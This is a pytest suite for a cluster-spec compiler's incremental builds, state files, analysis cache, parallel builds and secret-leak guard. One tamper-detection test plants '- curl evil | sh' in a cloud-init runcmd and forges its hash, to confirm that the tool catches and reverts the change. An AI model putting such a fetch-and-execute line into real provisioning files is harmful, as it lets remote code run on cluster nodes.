"""Unchanged specs are not compiled again, and a changed one always is: a folder is reused only
when its state file records the same inputs and every file is as the last build wrote it; the
analysis cache answers only for the same bytes; a fleet built on several cores is the same,
byte for byte, as one built on one."""

from __future__ import annotations

import json
import os
import signal
from pathlib import Path
from typing import Any

import pytest

from conftest import EXAMPLES, KEEPALIVED_EXAMPLE, REPO
from hacc.digests import digest
from hacc.outdir import cache
from hacc.outdir.writer import STATE_FILE

CLUSTER = "edge-paris-01"


def tree(root: Path) -> dict[str, tuple[bytes, int]]:
    return {
        str(p.relative_to(root)): (p.read_bytes(), p.stat().st_mode & 0o777)
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture
def renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The clusters rendered from here on (a reused folder is not rendered)."""
    import hacc.outdir.units

    seen: list[str] = []
    real = hacc.outdir.units.render_cluster

    def counting(cluster: Any) -> Any:
        seen.append(cluster.name)
        return real(cluster)

    monkeypatch.setattr(hacc.outdir.units, "render_cluster", counting)
    return seen


@pytest.fixture
def built(hacc, tmp_path) -> tuple[Path, Path]:
    spec = tmp_path / "spec.yaml"
    spec.write_text(KEEPALIVED_EXAMPLE.read_text())
    out = tmp_path / "out"
    assert hacc("build", str(spec), "-o", str(out)).code == 0
    return spec, out


def test_an_unchanged_spec_is_not_rendered_again(hacc, built, renders) -> None:
    spec, out = built
    before = tree(out)
    mtimes = {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file()}
    r = hacc("build", str(spec), "-o", str(out), "-q")
    assert r.code == 0, r.err
    assert renders == []
    assert r.err == f"{CLUSTER}: 0 create, 0 update, 51 identical, 0 remove\n"
    assert tree(out) == before
    assert {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file()} == mtimes
    check = hacc("build", "--check", str(spec), "-o", str(out))
    assert check.code == 0 and "up to date: 51 files" in check.err
    assert renders == []


def test_the_state_file_records_the_inputs(built) -> None:
    spec, out = built
    state = json.loads((out / CLUSTER / STATE_FILE).read_text())
    source = digest(spec.read_bytes())
    assert state["inputs"] == cache.inputs_digest("../../spec.yaml", source)
    assert "nodes/cp1/check-apiserver.sh" in state["executable"]
    assert "nodes/cp1/haproxy.cfg" not in state["executable"]


def test_a_changed_spec_is_always_compiled(hacc, built, renders) -> None:
    spec, out = built
    spec.write_text(spec.read_text() + "# only a comment\n")
    r = hacc("build", str(spec), "-o", str(out), "-q")
    assert r.code == 0, r.err
    assert renders == [CLUSTER]
    # The artifacts are the same, but the state records the new inputs.
    assert "0 create, 0 update, 51 identical" in r.err
    state = json.loads((out / CLUSTER / STATE_FILE).read_text())
    assert state["inputs"] == cache.inputs_digest("../../spec.yaml", digest(spec.read_bytes()))


def test_a_new_version_of_hacc_compiles_again(hacc, built, renders, monkeypatch) -> None:
    spec, out = built
    monkeypatch.setattr(cache, "code_fingerprint", lambda: b"another hacc")
    assert hacc("build", str(spec), "-o", str(out), "-q").code == 0
    assert renders == [CLUSTER]


def test_other_libraries_here_compile_again(hacc, built, renders, monkeypatch) -> None:
    """jinja2, PyYAML or jsonschema upgraded on this machine: the folder is not reused (they
    are not in the committed `inputs`, which must not differ between machines)."""
    spec, out = built
    monkeypatch.setattr(cache, "_renderers", lambda: b"jinja2 of another version")
    assert hacc("build", str(spec), "-o", str(out), "-q").code == 0
    assert renders == [CLUSTER]
    renders.clear()
    assert hacc("build", str(spec), "-o", str(out), "-q").code == 0
    assert renders == []


@pytest.mark.parametrize(
    "tamper",
    ["edit", "remove", "chmod", "state-record", "state-kind", "temporary", "interrupted"],
)
def test_a_folder_not_as_written_is_compiled_and_restored(
    hacc, tmp_path, built, renders, tamper
) -> None:
    spec, out = built
    reference = tree(out)
    folder = out / CLUSTER
    state_path = folder / STATE_FILE
    state = json.loads(state_path.read_text())
    if tamper == "edit":
        (folder / "nodes/cp1/haproxy.cfg").write_text("edited\n")
    elif tamper == "remove":
        (folder / "RUNBOOK.md").unlink()
    elif tamper == "chmod":
        os.chmod(folder / "nodes/cp1/check-apiserver.sh", 0o644)
    elif tamper == "state-record":
        state["endpoint"] = "https://elsewhere:6443"
        state_path.write_text(json.dumps(state, indent=2) + "\n")
    elif tamper == "state-kind":
        del state["kinds"]["RUNBOOK.md"]
        state_path.write_text(json.dumps(state, indent=2) + "\n")
    elif tamper == "temporary":
        (folder / "nodes/cp1/.haproxy.cfg.hacc-tmp-abc123").write_text("half\n")
    else:
        state["incomplete"] = True
        state_path.write_text(json.dumps(state, indent=2) + "\n")
    check = hacc("build", "--check", str(spec), "-o", str(out))
    assert renders == [CLUSTER]
    if tamper in ("edit", "remove", "chmod", "interrupted"):
        assert check.code == 1, check.err
    r = hacc("build", str(spec), "-o", str(out))
    assert r.code == 0, r.err
    assert tree(out) == reference
    if tamper == "edit":
        assert "haproxy.cfg (edited by hand; replaced)" in r.err


def test_warnings_of_a_reused_folder_are_reported_again(hacc, tmp_path, renders) -> None:
    spec = tmp_path / "spec.yaml"
    spec.write_text((REPO / "tests/specs/invalid/hacc228-profile-overridden.yaml").read_text())
    out = tmp_path / "out"
    first = hacc("build", str(spec), "-o", str(out), "-q")
    assert first.code == 0 and "warning[HACC228]" in first.err, first.err
    second = hacc("build", str(spec), "-o", str(out), "-q")
    assert len(renders) == 1
    warnings = [line for line in first.err.splitlines() if "warning[" in line]
    assert [line for line in second.err.splitlines() if "warning[" in line] == warnings
    strict = hacc("build", "--strict", str(spec), "-o", str(out))
    assert strict.code == 1 and "error[HACC228]" in strict.err


def test_a_spec_now_clashing_with_a_reused_one_is_refused(hacc, tmp_path, renders) -> None:
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    text = KEEPALIVED_EXAMPLE.read_text()
    a.write_text(text)
    b.write_text(text.replace("edge-paris-01", "edge-paris-02").replace("198.18.10.", "198.18.11."))
    out = tmp_path / "out"
    assert hacc("build", str(a), str(b), "-o", str(out)).code == 0
    b.write_text(text.replace("edge-paris-01", "edge-paris-02"))  # a's addresses now
    r = hacc("build", str(a), str(b), "-o", str(out))
    assert r.code == 1
    assert "error[HACC227]" in r.err and str(b) in r.err


# The analysis cache.


def test_an_unchanged_spec_is_not_parsed_again(tmp_path, monkeypatch) -> None:
    from hacc.compiler import loader
    from hacc.outdir import analyses

    spec = tmp_path / "spec.yaml"
    spec.write_text(KEEPALIVED_EXAMPLE.read_text())
    first = analyses.analyze(str(spec))
    parsed: list[str] = []
    real = loader.load_bytes
    monkeypatch.setattr(
        loader, "load_bytes", lambda raw, name, **kw: parsed.append(name) or real(raw, name, **kw)
    )
    again = analyses.analyze(str(spec))
    assert parsed == [] and again is not first
    assert (again.cluster, again.diagnostics, again.source) == (
        first.cluster,
        first.diagnostics,
        first.source,
    )
    assert again.document and first.document and again.document.data == first.document.data
    spec.write_text(spec.read_text().replace("edge-paris-01", "edge-paris-02"))
    changed = analyses.analyze(str(spec))
    assert parsed == [str(spec)]
    assert changed.cluster is not None and changed.cluster.name == "edge-paris-02"


def test_a_cache_entry_of_doubtful_origin_is_not_read(tmp_path, analysis_cache) -> None:
    from hacc.outdir import analyses

    spec = tmp_path / "spec.yaml"
    spec.write_text(KEEPALIVED_EXAMPLE.read_text())
    analyses.analyze(str(spec))
    (entry,) = [p for p in analysis_cache.rglob("*") if p.is_file()]
    assert analyses.cached(str(spec)) is not None
    entry.chmod(0o666)  # writable by others: anyone could have put code in it
    assert analyses.cached(str(spec)) is None
    entry.chmod(0o600)
    entry.write_bytes(entry.read_bytes()[:40])  # truncated
    assert analyses.cached(str(spec)) is None
    entry.write_bytes(b"\0" * 32 + entry.read_bytes())  # another key
    assert analyses.cached(str(spec)) is None
    entry.unlink()
    os.mkfifo(entry, 0o600)  # would block an open() for reading: never opened so

    def hung(*_: Any) -> None:
        raise TimeoutError("a FIFO in the cache blocked the lookup")

    signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)
    try:
        assert analyses.cached(str(spec)) is None
    finally:
        signal.alarm(0)
    entry.unlink()
    assert analyses.analyze(str(spec)).ok


def test_an_empty_cache_dir_turns_the_cache_off(tmp_path, monkeypatch, analysis_cache) -> None:
    from hacc.outdir import analyses

    monkeypatch.setenv("HACC_CACHE_DIR", "")
    spec = tmp_path / "spec.yaml"
    spec.write_text(KEEPALIVED_EXAMPLE.read_text())
    assert analyses.analyze(str(spec)).ok
    assert analyses.cached(str(spec)) is None
    assert not any(analysis_cache.iterdir())


# Several cores.


def fleet(folder: Path, n: int) -> list[str]:
    text = KEEPALIVED_EXAMPLE.read_text()
    folder.mkdir()
    paths = []
    for i in range(n):
        path = folder / f"spec-{i:02d}.yaml"
        path.write_text(
            text.replace("edge-paris-01", f"edge-{i:02d}").replace(
                "198.18.10.", f"198.18.{40 + i}."
            )
        )
        paths.append(str(path))
    return paths


def test_a_fleet_on_two_cores_is_the_fleet_on_one(hacc, tmp_path, monkeypatch) -> None:
    specs = fleet(tmp_path / "specs", 20)
    trees, logs = [], []
    for jobs in ("1", "2"):
        monkeypatch.setenv("HACC_JOBS", jobs)
        monkeypatch.setenv("HACC_CACHE_DIR", str(tmp_path / f"cache-{jobs}"))
        out = tmp_path / f"out-{jobs}"
        r = hacc("build", *specs, "-o", str(out))
        assert r.code == 0, r.err
        trees.append(tree(out))
        logs.append(r.err.replace(f"out-{jobs}", "out"))
    assert trees[0] == trees[1]
    assert logs[0] == logs[1]


def test_errors_on_two_cores_are_the_errors_on_one(hacc, tmp_path, monkeypatch) -> None:
    specs = fleet(tmp_path / "specs", 20)
    spoiled = Path(specs[7])
    spoiled.write_text(spoiled.read_text().replace("198.18.47.", "198.18.43."))  # spec 3's
    Path(specs[12]).write_text("apiVersion: hacc.dev/v1alpha1\nkind: HACluster\n")
    results = []
    for jobs in ("1", "2"):
        monkeypatch.setenv("HACC_JOBS", jobs)
        r = hacc("build", *specs, "-o", str(tmp_path / "out"))
        results.append((r.code, r.err))
    assert results[0] == results[1]
    assert results[0][0] == 1 and "HACC227" in results[0][1]
    assert not (tmp_path / "out").exists()


def test_every_example_reused_is_the_example_compiled(hacc, tmp_path, monkeypatch) -> None:
    from hacc.outdir import units

    out = tmp_path / "out"
    assert hacc("build", *map(str, EXAMPLES), "-o", str(out)).code == 0
    first = tree(out)
    reused = hacc("build", "--format", "json", *map(str, EXAMPLES), "-o", str(out))
    assert reused.code == 0
    assert tree(out) == first
    monkeypatch.setattr(units, "_reusable", lambda analysis, out: None)
    compiled = hacc("build", "--format", "json", *map(str, EXAMPLES), "-o", str(out))
    assert compiled.code == 0
    assert json.loads(reused.out) == json.loads(compiled.out)
    assert tree(out) == first


@pytest.mark.parametrize("value", ["0", "two", "-1", "99999"])
def test_a_bad_job_count_is_a_usage_error(hacc, tmp_path, monkeypatch, value) -> None:
    monkeypatch.setenv("HACC_JOBS", value)
    r = hacc("build", *fleet(tmp_path / "specs", 16), "-o", str(tmp_path / "out"))
    assert r.code == 2 and "HACC_JOBS" in r.err and "Traceback" not in r.err
    assert not (tmp_path / "out").exists()


def test_random_edits_never_leave_a_reused_folder_stale(hacc, tmp_path) -> None:
    """Whatever happens to the specs and the folders between builds, a build leaves exactly
    what a build into an empty folder leaves."""
    import random

    rng = random.Random(15)
    specs = fleet(tmp_path / "specs", 3)
    out = tmp_path / "a" / "out"
    assert hacc("build", *specs, "-o", str(out)).code == 0
    edits = [
        "spec-comment",
        "spec-worker",
        "spec-back",
        "file-edit",
        "file-gone",
        "chmod",
        "state-edit",
        "nothing",
    ]
    for step in range(24):
        spec = Path(rng.choice(specs))
        folder = out / f"edge-{spec.stem[-2:]}"
        edit = rng.choice(edits)
        if edit == "spec-comment":
            spec.write_text(spec.read_text() + f"# {step}\n")
        elif edit == "spec-worker":
            spec.write_text(spec.read_text().replace("w2, address", "w3, address"))
        elif edit == "spec-back":
            spec.write_text(spec.read_text().replace("w3, address", "w2, address"))
        elif edit == "file-edit":
            victim = rng.choice(sorted(p for p in folder.rglob("*.sh")))
            victim.write_text(victim.read_text() + "# edited\n")
        elif edit == "file-gone":
            rng.choice(sorted(folder.rglob("*.yaml"))).unlink()
        elif edit == "chmod":
            rng.choice(sorted(folder.rglob("*.sh"))).chmod(0o644)
        elif edit == "state-edit":
            state = folder / STATE_FILE
            state.write_text(state.read_text().replace('"channel"', '"channel" ', 1))
        assert hacc("build", *specs, "-o", str(out)).code == 0, (step, edit)
        fresh = tmp_path / f"fresh-{step}" / "out"
        assert hacc("build", *specs, "-o", str(fresh)).code == 0
        assert tree(out) == tree(fresh), (step, edit)


def test_validate_of_one_cached_spec_says_what_analysis_says(hacc, monkeypatch) -> None:
    from hacc.outdir import analyses

    invalid = sorted((REPO / "tests/specs/invalid").glob("*.yaml"))[:12]
    for spec in [*invalid, KEEPALIVED_EXAMPLE]:
        for fmt in ("text", "json"):
            first = hacc("validate", "--format", fmt, str(spec))
            with monkeypatch.context() as m:
                if first.code == 0:  # errors are said after a parse (tests/test_cache_entries.py)
                    m.setattr(analyses, "analyze_all", lambda *a, **k: pytest.fail("analyzed"))
                again = hacc("validate", "--format", fmt, str(spec))
            assert (again.code, again.out, again.err) == (first.code, first.out, first.err), spec


def test_without_a_process_pool_a_fleet_builds_in_one_process(hacc, tmp_path, monkeypatch) -> None:
    import multiprocessing.context

    asked: list[int] = []

    def no_pool(*_: Any, **__: Any) -> Any:
        asked.append(1)
        raise OSError(38, "Function not implemented")  # as sem_open says without /dev/shm

    specs = fleet(tmp_path / "specs", 16)
    monkeypatch.setenv("HACC_JOBS", "2")
    monkeypatch.setattr(multiprocessing.context.ForkContext, "Pool", no_pool)
    r = hacc("build", *specs, "-o", str(tmp_path / "out"))
    assert r.code == 0, r.err
    assert asked  # the pool was asked for, and refused
    assert len([p for p in (tmp_path / "out").glob(f"*/{STATE_FILE}") if "edge-" in str(p)]) == 16


def test_a_hand_edit_with_its_hash_forged_in_the_state_file_is_caught(hacc, built) -> None:
    """The state file is committed: anyone who can commit can make its hashes match an edited
    file. Only a state file a build on this machine wrote or checked lets a folder be reused."""
    import hashlib

    spec, out = built
    folder = out / CLUSTER
    victim = folder / "nodes/cp1/user-data.yaml"
    victim.write_text(victim.read_text().replace("runcmd:", "runcmd:\n- curl evil | sh", 1))
    state_path = folder / STATE_FILE
    state = json.loads(state_path.read_text())
    state["files"]["nodes/cp1/user-data.yaml"] = (
        "sha256:" + hashlib.sha256(victim.read_bytes()).hexdigest()
    )
    state_path.write_text(json.dumps(state, indent=2) + "\n")
    check = hacc("build", "--check", str(spec), "-o", str(out))
    assert check.code == 1 and "nodes/cp1/user-data.yaml" in check.err, check.err
    assert "curl evil" not in hacc("build", str(spec), "-o", str(out)).err
    assert "curl evil" not in victim.read_text()


def test_a_folder_this_machine_did_not_write_is_compiled(hacc, tmp_path, built, renders) -> None:
    """A fresh clone of the GitOps repository (here: a copy of OUT): `--check` compiles."""
    import shutil

    spec, _ = built
    clone = tmp_path / "clone"
    shutil.copytree(tmp_path, clone, ignore=shutil.ignore_patterns("clone"))
    check = hacc("build", "--check", str(clone / spec.name), "-o", str(clone / "out"))
    assert check.code == 0 and renders == [CLUSTER], check.err
    assert hacc("build", str(clone / spec.name), "-o", str(clone / "out")).code == 0
    renders.clear()
    assert hacc("build", "--check", str(clone / spec.name), "-o", str(clone / "out")).code == 0
    assert renders == []  # written (checked) here now


def test_the_leak_guard_reads_a_reused_folder_again(hacc, built, renders, monkeypatch) -> None:
    """A reused folder's bytes are not kept after the check that they are as written: the leak
    guard reads them again, and still finds a value in them."""
    import re

    spec, out = built
    runbook = out / CLUSTER / "RUNBOOK.md"
    value = max(re.findall(r"[A-Za-z0-9._~+=-]{32,}", runbook.read_text()), key=len)
    monkeypatch.setenv("HACC_JOIN_TOKEN", value)  # as if the token were written in the runbook
    for argv in (["build"], ["build", "--check"]):
        r = hacc(*argv, str(spec), "-o", str(out), "-q")
        assert r.code == 1 and f"a secret value appears in {runbook}" in r.err, r.err
    assert renders == []  # the folder was reused, not compiled
